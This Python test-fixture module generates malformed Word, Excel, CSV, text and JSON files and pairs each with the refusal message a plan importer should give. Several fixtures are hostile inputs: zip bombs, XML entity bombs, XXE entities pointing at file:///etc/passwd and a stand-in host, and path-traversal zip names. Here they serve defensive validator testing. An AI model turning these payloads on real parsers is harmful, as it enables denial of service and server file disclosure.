"""Files that must be refused, made on the spot: none of them is kept, and each says what its refusal has to say."""

from __future__ import annotations

import dataclasses
import functools
import io
import random
import struct
import zipfile
from collections.abc import Callable

from documents import write
from documents.plan import Action, Plan, Theme

PLAN = Plan(
    title="Plan of Wexcombe",
    themes=(Theme(title="Trust", actions=(Action(service="Parks", action="Listen"),)),),
)
WORD = "word/document.xml"
ABOUT = "xl/worksheets/sheet1.xml"
SHEET = "xl/worksheets/sheet2.xml"
STRINGS = "xl/sharedStrings.xml"
MEGABYTE = 1024 * 1024
NAMESPACE = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


@dataclasses.dataclass(frozen=True, kw_only=True)
class Bad:
    """A bad file: its ending, how its bytes are made, and the place and the problem that its refusal names."""

    suffix: str
    make: Callable[[], bytes]
    problem: str
    place: str = ""


@functools.cache
def _sound(suffix: str) -> bytes:
    return write(PLAN, suffix)


def docx(changes: dict[str, bytes | None] | None = None, **how: int) -> bytes:
    """A sound Word file with parts replaced, added or (None) taken out."""
    return changed(_sound(".docx"), changes or {}, **how)


def xlsx(changes: dict[str, bytes | None] | None = None, **how: int) -> bytes:
    return changed(_sound(".xlsx"), changes or {}, **how)


def changed(
    data: bytes, changes: dict[str, bytes | None], compression: int = zipfile.ZIP_DEFLATED, level: int = 6
) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts: dict[str, bytes | None] = {name: archive.read(name) for name in archive.namelist()}
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", compression, compresslevel=level) as archive:
        for name, content in (parts | changes).items():
            if content is not None:
                archive.writestr(name, content)
    return packed.getvalue()


def word_xml(body: str, before: str = "") -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?>{before}<w:document xmlns:w="{NAMESPACE}">{body}</w:document>'.encode()


def paragraph(text: str) -> str:
    return f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body>"


def sheet_xml(rows: str) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{_S}"><sheetData>{rows}</sheetData></worksheet>'.encode()


def part_of(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def renamed_type(data: bytes, old: str, new: str) -> bytes:
    types = part_of(data, "[Content_Types].xml")
    return changed(data, {"[Content_Types].xml": types.replace(old.encode(), new.encode())})


def ole(*streams: str) -> bytes:
    """The beginning of a file of the old kind, with the names of its streams."""
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(504)
        + b"".join(name.encode("utf-16-le") + bytes(64) for name in streams)
    )


def patched(data: bytes, part: str, **values: int) -> bytes:
    """The zip file with other figures for a part in its directory: flags, method, crc, packed, size, at."""
    fields = {
        "flags": (8, "<H"),
        "method": (10, "<H"),
        "crc": (16, "<L"),
        "packed": (20, "<L"),
        "size": (24, "<L"),
        "at": (42, "<L"),
    }
    at = data.rindex(b"PK\x01\x02", 0, data.rindex(part.encode()))
    content = bytearray(data)
    for key, value in values.items():
        offset, form = fields[key]
        struct.pack_into(form, content, at + offset, value)
    return bytes(content)


def flipped(data: bytes, part: str) -> bytes:
    """The zip file with the packed content of a part overwritten."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        at = archive.getinfo(part).header_offset + 30 + len(part) + 40
    return data[:at] + b"\xff" * 40 + data[at + 40 :]


def overlapping() -> bytes:
    """Many parts that are all the same piece of the file."""
    data = docx({f"word/more{number}.xml": b"<a/>" for number in range(9)})
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        first = archive.getinfo(WORD)
    for number in range(9):
        data = patched(
            data,
            f"word/more{number}.xml",
            at=first.header_offset,
            packed=first.compress_size,
            size=first.file_size,
            crc=first.CRC,
        )
    return data


def twice() -> bytes:
    packed = io.BytesIO(docx())
    with zipfile.ZipFile(packed, "a") as archive:
        archive.writestr("WORD/document.xml", b"<other/>")
    return packed.getvalue()


def nested_zips() -> bytes:
    """A zip of zips of zips of nothing."""
    content = bytes(MEGABYTE)
    for level in range(4):
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(10):
                archive.writestr(f"{level}-{number}.zip", content)
        content = packed.getvalue()
    return content


def noise(size: int) -> str:
    """Letters that do not pack well, so that no ratio gives them away."""
    return random.Random(7).randbytes(size // 2).hex()


def rows(count: int, first: int = 1) -> str:
    return "".join(f'<row r="{at}"><c r="A{at}"><v>1</v></c></row>' for at in range(first, first + count))


def bomb(levels: int = 9) -> str:
    entities = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, levels + 1)
    )
    return f"<!DOCTYPE x [{entities}]>"


ENTITIES = "the file defines text of its own (entities), which no Word or Excel file needs and attacks use"
LOCKED = "the file is protected by a password"
EMPTY = "the file is empty"
MACROS = "the file contains macros (small programs), and such files are not read"
OLD = "this is a file of an old kind (before 2007), not {} of today"
WORD_DOCUMENT, WORKBOOK = "a Word document", "an Excel workbook"
DAMAGED = "the file is damaged: "
LARGE = "the file is too large inside: "
NOT_TEXT = "this is not a text file"
MIXED = "some letters cannot be read, as if written in two encodings"
ELSE = "the file does not hold what its name says: this is something else, not "
UNREADABLE = DAMAGED + "this part inside it cannot be read"
NO_SHEETS = "the workbook is damaged: it has no sheet that can be read"
ROWS = "there are more rows than can be read (at most 20,000)"
COLUMNS = "there are more columns than can be read (at most 200)"

BAD: dict[str, Bad] = {
    "an empty Word file": Bad(suffix=".docx", make=bytes, problem=EMPTY),
    "an empty workbook": Bad(suffix=".xlsx", make=bytes, problem=EMPTY),
    "an empty CSV file": Bad(suffix=".csv", make=bytes, problem=EMPTY),
    "an empty text": Bad(suffix=".txt", make=bytes, problem=EMPTY),
    "a text of blanks": Bad(suffix=".txt", make=lambda: b" \n\t\n", problem=EMPTY),
    "an empty JSON file": Bad(suffix=".json", make=bytes, problem=EMPTY),
    "a picture called Word": Bad(
        suffix=".docx",
        make=lambda: b"\x89PNG\r\n\x1a\n" + bytes(90),
        problem="this is a picture, not a Word document",
    ),
    "a photograph called Excel": Bad(
        suffix=".xlsx",
        make=lambda: b"\xff\xd8\xff\xe0" + bytes(90),
        problem="this is a picture, not an Excel workbook",
    ),
    "a PDF called Word": Bad(
        suffix=".docx", make=lambda: b"%PDF-1.7\n%\xe2\xe3", problem="this is a PDF, not a Word document"
    ),
    "rich text called Word": Bad(
        suffix=".docx",
        make=lambda: b"{\\rtf1 plan}",
        problem="this is a rich text file (.rtf), not a Word document",
    ),
    "a web page called Excel": Bad(
        suffix=".xlsx",
        make=lambda: b"<html><table><tr><td>Activity</td></tr></table></html>",
        problem="this is a web page or an XML file, not an Excel workbook",
    ),
    "a gzip called Word": Bad(
        suffix=".docx",
        make=lambda: b"\x1f\x8b\x08" + bytes(90),
        problem="this is a compressed file (.gz), not a Word document",
    ),
    "a program called Word": Bad(
        suffix=".docx", make=lambda: b"\x7fELF" + bytes(90), problem="this is a program, not a Word document"
    ),
    "a text called Word": Bad(suffix=".docx", make=lambda: b"Activity\tLead\n", problem=ELSE + WORD_DOCUMENT),
    "zeros called Excel": Bad(suffix=".xlsx", make=lambda: bytes(4096), problem=ELSE + WORKBOOK),
    "an old Word file": Bad(
        suffix=".docx", make=lambda: ole("WordDocument"), problem=OLD.format(WORD_DOCUMENT)
    ),
    "an old workbook": Bad(suffix=".xlsx", make=lambda: ole("Workbook"), problem=OLD.format(WORKBOOK)),
    "a Word file with a password": Bad(
        suffix=".docx", make=lambda: ole("EncryptionInfo", "EncryptedPackage"), problem=LOCKED
    ),
    "a workbook with a password": Bad(
        suffix=".xlsx", make=lambda: ole("EncryptionInfo", "EncryptedPackage"), problem=LOCKED
    ),
    "a zip with a password": Bad(suffix=".docx", make=lambda: patched(docx(), WORD, flags=1), problem=LOCKED),
    "a Word file cut short": Bad(
        suffix=".docx",
        make=lambda: docx()[:-300],
        problem=DAMAGED + "the end of the file is missing or damaged",
    ),
    "a workbook cut in half": Bad(
        suffix=".xlsx",
        make=lambda: xlsx()[: len(xlsx()) // 2],
        problem=DAMAGED + "the end of the file is missing or damaged",
    ),
    "an empty zip": Bad(
        suffix=".docx",
        make=lambda: b"PK\x05\x06" + bytes(18),
        problem=DAMAGED + "it has no content, or is one part of several",
    ),
    "a part overwritten": Bad(
        suffix=".docx",
        make=lambda: flipped(docx(), WORD),
        problem=DAMAGED + f"the part {WORD} cannot be unpacked",
    ),
    "a part with another checksum": Bad(
        suffix=".docx",
        make=lambda: patched(docx(), WORD, crc=1),
        problem=DAMAGED + f"{WORD} has changed since it was saved",
    ),
    "a part that is not there": Bad(
        suffix=".docx",
        make=lambda: patched(docx(), WORD, at=9),
        problem=DAMAGED + f"the part {WORD} is missing",
    ),
    "a part longer than the file": Bad(
        suffix=".docx",
        make=lambda: patched(docx(), WORD, packed=10 * MEGABYTE),
        problem=DAMAGED + f"the part {WORD} is cut short",
    ),
    "a part packed in an unknown way": Bad(
        suffix=".docx",
        make=lambda: docx(compression=zipfile.ZIP_LZMA),
        problem=DAMAGED + "the part [Content_Types].xml is packed in an unknown way",
    ),
    "a part that climbs out of its folder": Bad(
        suffix=".docx",
        make=lambda: docx({"../../evil.xml": b"<a/>"}),
        problem=DAMAGED + "a part inside has an impossible name, ../../evil.xml",
    ),
    "a part with a right-to-left name": Bad(
        suffix=".docx",
        make=lambda: docx({"word/\u202elmx.exe/../x.xml": b"<a/>"}),
        problem=DAMAGED + "a part inside has an impossible name, word/?lmx.exe/../x.xml",
    ),
    "two parts of one name": Bad(
        suffix=".docx", make=twice, problem=DAMAGED + "two parts inside have the same name"
    ),
    "a zip without a document": Bad(
        suffix=".docx",
        make=lambda: docx(
            {WORD: None, "word/styles.xml": None, "word/settings.xml": None}
            | {
                name: None
                for name in zipfile.ZipFile(io.BytesIO(docx())).namelist()
                if name.startswith("word/")
            }
        ),
        problem="this is a zip file without a document in it, not a Word document",
    ),
    "a Word file without its text": Bad(
        suffix=".docx",
        make=lambda: docx({WORD: None}),
        problem=DAMAGED + "there is no text in it that Word would show",
    ),
    "a Word file without a body": Bad(
        suffix=".docx",
        make=lambda: docx({WORD: word_xml("")}),
        problem=DAMAGED + "there is no text in it that Word would show",
    ),
    "a workbook called Word": Bad(
        suffix=".docx", make=xlsx, problem="the name says a Word document, but this is an Excel workbook"
    ),
    "a Word file called Excel": Bad(
        suffix=".xlsx", make=docx, problem="the name says an Excel workbook, but this is a Word document"
    ),
    "an OpenDocument text called Word": Bad(
        suffix=".docx",
        make=lambda: docx({"mimetype": b"application/vnd.oasis.opendocument.text"}),
        problem="this is an OpenDocument file or another kind, not a Word document",
    ),
    "macros in a Word file": Bad(
        suffix=".docx", make=lambda: docx({"word/vbaProject.bin": b"macro"}), problem=MACROS
    ),
    "a Word file that says it has macros": Bad(
        suffix=".docx",
        make=lambda: renamed_type(
            docx(),
            "vnd.openxmlformats-officedocument.wordprocessingml.document.main",
            "vnd.ms-word.document.macroEnabled.main",
        ),
        problem=MACROS,
    ),
    "macros in a workbook": Bad(
        suffix=".xlsx", make=lambda: xlsx({"xl/vbaProject.bin": b"macro"}), problem=MACROS
    ),
    "a binary workbook": Bad(
        suffix=".xlsx",
        make=lambda: xlsx({"xl/workbook.bin": b"binary"}),
        problem="this is a binary workbook (.xlsb), not an Excel workbook",
    ),
    "a zip bomb": Bad(
        suffix=".docx",
        make=lambda: docx({WORD: word_xml(paragraph("a" * 40 * MEGABYTE))}),
        problem=LARGE + f"{WORD} grows to more than 200 times its size",
    ),
    "a zip bomb in a picture": Bad(
        suffix=".docx",
        make=lambda: docx({"word/media/image1.bmp": bytes(40 * MEGABYTE)}),
        problem=LARGE + "word/media/image1.bmp grows to more than 200 times its size",
    ),
    "a zip bomb that says it is small": Bad(
        suffix=".docx",
        make=lambda: patched(docx({WORD: word_xml(paragraph("a" * 40 * MEGABYTE))}), WORD, size=1000),
        problem=LARGE + f"{WORD} grows to more than 200 times its size",
    ),
    "a part a little longer than it says": Bad(
        suffix=".docx",
        make=lambda: patched(docx(), WORD, size=1000),
        problem=DAMAGED + f"the part {WORD} is not as long as the file says",
    ),
    "a zip that says it is enormous": Bad(
        suffix=".docx",
        make=lambda: patched(docx(), WORD, size=0xFFFFFFF0),
        problem=LARGE + "it grows to more than 200 MB",
    ),
    "a zip of zips": Bad(
        suffix=".docx",
        make=nested_zips,
        problem="this is a zip file without a document in it, not a Word document",
    ),
    "parts on top of one another": Bad(
        suffix=".docx", make=overlapping, problem=LARGE + "parts inside lie on top of one another"
    ),
    "three thousand parts": Bad(
        suffix=".docx",
        make=lambda: docx({f"word/p{at}.xml": b"<a/>" for at in range(3000)}),
        problem=LARGE + "it has 3,011 parts inside",
    ),
    "a text of 25 MB in Word": Bad(
        suffix=".docx",
        make=lambda: docx({WORD: word_xml(paragraph(noise(25 * MEGABYTE)))}, level=1),
        problem=LARGE + f"the text in {WORD} is far longer than an action plan",
    ),
    "an entity bomb": Bad(
        suffix=".docx",
        make=lambda: docx({WORD: word_xml(paragraph("&a9;"), bomb())}),
        problem=ENTITIES,
        place=WORD,
    ),
    "an entity bomb of one long entity": Bad(
        suffix=".docx",
        make=lambda: docx(
            {WORD: word_xml(paragraph("&a;" * 50_000), f'<!DOCTYPE x [<!ENTITY a "{"ha" * 50_000}">]>')}
        ),
        problem=ENTITIES,
        place=WORD,
    ),
    "an entity bomb in a workbook": Bad(
        suffix=".xlsx",
        make=lambda: xlsx(
            {STRINGS: f'<?xml version="1.0"?>{bomb()}<sst xmlns="{_S}"><si><t>&a9;</t></si></sst>'.encode()}
        ),
        problem=ENTITIES,
        place=STRINGS,
    ),
    "an entity that is a file of the server": Bad(
        suffix=".docx",
        make=lambda: docx(
            {WORD: word_xml(paragraph("&a;"), '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>')}
        ),
        problem=ENTITIES,
        place=WORD,
    ),
    "an entity on the network": Bad(
        suffix=".xlsx",
        make=lambda: xlsx(
            {
                "xl/workbook.xml": b'<!DOCTYPE x [<!ENTITY a SYSTEM "http://192.0.2.1/x">]><workbook>&a;</workbook>'
            }
        ),
        problem=ENTITIES,
        place="xl/workbook.xml",
    ),
    "an entity for parameters": Bad(
        suffix=".docx",
        make=lambda: docx(
            {"word/styles.xml": b'<!DOCTYPE x [<!ENTITY % a SYSTEM "http://192.0.2.1/x"> %a;]><x/>'}
        ),
        problem=ENTITIES,
        place="word/styles.xml",
    ),
    "an entity in the properties": Bad(
        suffix=".docx",
        make=lambda: docx({"docProps/core.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}),
        problem=ENTITIES,
        place="docProps/core.xml",
    ),
    "an entity hidden by UTF-16": Bad(
        suffix=".docx",
        make=lambda: docx(
            {WORD: word_xml(paragraph("&a9;"), bomb()).decode().replace("UTF-8", "UTF-16").encode("utf-16")}
        ),
        problem=DAMAGED + f"the part {WORD} is not written in UTF-8",
    ),
    "an entity hidden by UTF-7": Bad(
        suffix=".docx",
        make=lambda: docx({WORD: b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-'}),
        problem=DAMAGED + f"the part {WORD} is not written in UTF-8",
    ),
    "XML that breaks off": Bad(
        suffix=".docx",
        make=lambda: docx({WORD: word_xml(paragraph("a"))[:-30]}),
        problem=UNREADABLE,
        place=WORD,
    ),
    "XML a hundred thousand deep": Bad(
        suffix=".docx",
        make=lambda: docx({WORD: word_xml("<w:body>" + "<w:sdt>" * 100_000)}),
        problem=UNREADABLE,
        place=WORD,
    ),
    "tables inside tables without end": Bad(
        suffix=".docx",
        make=lambda: docx(
            {
                WORD: word_xml(
                    "<w:body>" + "<w:tbl><w:tr><w:tc>" * 200 + "</w:tc></w:tr></w:tbl>" * 200 + "</w:body>"
                )
            }
        ),
        problem=UNREADABLE,
        place=WORD,
    ),
    "a table of 30,000 rows in Word": Bad(
        suffix=".docx",
        make=lambda: docx(
            {WORD: word_xml(f"<w:body><w:tbl>{'<w:tr><w:tc/></w:tr>' * 30_000}</w:tbl></w:body>")}
        ),
        problem="the tables have more than 20,000 rows",
        place="table 1",
    ),
    "a sheet of 100,000 rows": Bad(
        suffix=".xlsx",
        make=lambda: xlsx({SHEET: sheet_xml(rows(100_000))}),
        problem=ROWS,
        place="sheet Plan, row 20,001",
    ),
    "a sheet of a million rows": Bad(
        suffix=".xlsx",
        make=lambda: xlsx({SHEET: sheet_xml(rows(1_000_000))}, level=1),
        problem=LARGE + f"the text in {SHEET} is far longer than an action plan",
    ),
    "a cell in the last row of a sheet": Bad(
        suffix=".xlsx",
        make=lambda: xlsx({SHEET: sheet_xml(rows(1) + rows(1, first=1_048_576))}),
        problem=ROWS,
        place="sheet Plan, row 1,048,576",
    ),
    "a cell in the last column of a sheet": Bad(
        suffix=".xlsx",
        make=lambda: xlsx({SHEET: sheet_xml('<row r="1"><c r="XFD1"><v>1</v></c></row>')}),
        problem=COLUMNS,
        place="sheet Plan, row 1",
    ),
    "ten thousand columns without names": Bad(
        suffix=".xlsx",
        make=lambda: xlsx({SHEET: sheet_xml(f'<row r="1">{"<c><v>1</v></c>" * 10_000}</row>')}),
        problem=COLUMNS,
        place="sheet Plan, row 1",
    ),
    "a workbook without sheets": Bad(
        suffix=".xlsx",
        make=lambda: xlsx({"xl/workbook.xml": f'<workbook xmlns="{_S}"><sheets/></workbook>'.encode()}),
        problem=NO_SHEETS,
    ),
    "a workbook whose sheets are not there": Bad(
        suffix=".xlsx", make=lambda: xlsx({SHEET: None, ABOUT: None}), problem=NO_SHEETS
    ),
    "a workbook of broken XML": Bad(
        suffix=".xlsx",
        make=lambda: xlsx({"xl/workbook.xml": b"<workbook><sheets>"}),
        problem=UNREADABLE,
        place="xl/workbook.xml",
    ),
    "a sheet that names a string that is not there": Bad(
        suffix=".xlsx",
        make=lambda: xlsx({SHEET: sheet_xml('<row r="1"><c r="A1" t="s"><v>99999</v></c></row>')}),
        problem="the workbook is damaged: its sheets cannot be read",
    ),
    "one long string in 20,000 cells": Bad(
        suffix=".xlsx",
        make=lambda: xlsx(
            {
                STRINGS: f'<sst xmlns="{_S}"><si><t>{noise(100_000)}</t></si></sst>'.encode(),
                ABOUT: sheet_xml(""),
                SHEET: sheet_xml(
                    "".join(f'<row r="{at}"><c r="A{at}" t="s"><v>0</v></c></row>' for at in range(1, 20_001))
                ),
            }
        ),
        problem="reading it takes more memory than 512 MB",
    ),
    "a CSV file of a million rows": Bad(
        suffix=".csv", make=lambda: b"a,b\n" * 1_000_000, problem=ROWS, place="row 20,001"
    ),
    "a CSV file of ten thousand columns": Bad(
        suffix=".csv", make=lambda: b"a,b\n" + b"a," * 10_000, problem=COLUMNS, place="row 2"
    ),
    "a CSV file with a zero byte": Bad(
        suffix=".csv", make=lambda: b"a,b\nc,\x00\n", problem=NOT_TEXT, place="line 2"
    ),
    "a CSV file with a zero character": Bad(
        suffix=".csv", make=lambda: "a,b\nc,\x00\n".encode("utf-16"), problem=NOT_TEXT, place="line 2"
    ),
    "a CSV file in two encodings": Bad(
        suffix=".csv",
        make=lambda: "Activity,Lead\nCafé,Zoë\n".encode() + "Fête,Chloë\n".encode("cp1252"),
        problem=MIXED,
        place="line 3",
    ),
    "a CSV file that begins a quotation": Bad(
        suffix=".csv",
        make=lambda: b'Activity,Lead\n"Listen,Asha\n' + b"Talk,Tom\n" * 20_000,
        problem="a cell that begins here does not end: a quotation mark is missing",
        place="row 2, line 2",
    ),
    "a picture called CSV": Bad(
        suffix=".csv", make=lambda: b"\x89PNG\r\n\x1a\n" + bytes(90), problem=NOT_TEXT, place="line 3"
    ),
    "a workbook called CSV": Bad(
        suffix=".csv", make=xlsx, problem="this is a zip, Word or Excel file, not text"
    ),
    "a text with a zero byte": Bad(
        suffix=".txt", make=lambda: b"Plan\n\x00\n", problem=NOT_TEXT, place="line 2"
    ),
    "a text in two encodings": Bad(
        suffix=".txt",
        make=lambda: "Café\n".encode() + "Fête\n".encode("cp1252"),
        problem=MIXED,
        place="line 2",
    ),
    "half a text in UTF-16": Bad(
        suffix=".txt", make=lambda: "Plan".encode("utf-16")[:-1], problem=NOT_TEXT, place="line 1"
    ),
    "JSON that breaks off": Bad(
        suffix=".json", make=lambda: b'{"themes": [\n', problem="this is not JSON", place="line 2"
    ),
    "JSON a hundred thousand deep": Bad(
        suffix=".json", make=lambda: b"[" * 100_000, problem="this is not JSON"
    ),
    "JSON that is no plan": Bad(
        suffix=".json", make=lambda: b"[1, 2]", problem="the plan: an object was expected"
    ),
}
